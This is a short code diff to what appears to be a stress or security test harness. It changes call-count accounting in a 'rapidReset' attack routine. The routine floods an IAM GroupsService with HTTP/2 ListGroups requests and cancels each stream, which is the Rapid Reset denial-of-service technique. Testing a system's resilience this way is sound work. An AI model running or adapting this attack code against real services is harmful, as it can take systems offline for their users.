@@ -10,6 +10,7 @@ const listGroups = '/platform.iam.v2beta1.GroupsService/ListGroups'
 export const rapidReset: Attack = {
   parallel: 8,
   async round(target) {
+    await target.take(callCount)
     const socket = await target.open()
     socket.resume()
     const block = callBlock(listGroups, ['authorization', target.tenant.authorization])
@@ -18,7 +19,6 @@ export const rapidReset: Attack = {
       reset(stream, constants.NGHTTP2_CANCEL),
     ])
     await written(socket, Buffer.concat([preface, settings, ...calls]))
-    target.sent(callCount)
     await closed(socket)
   },
 }
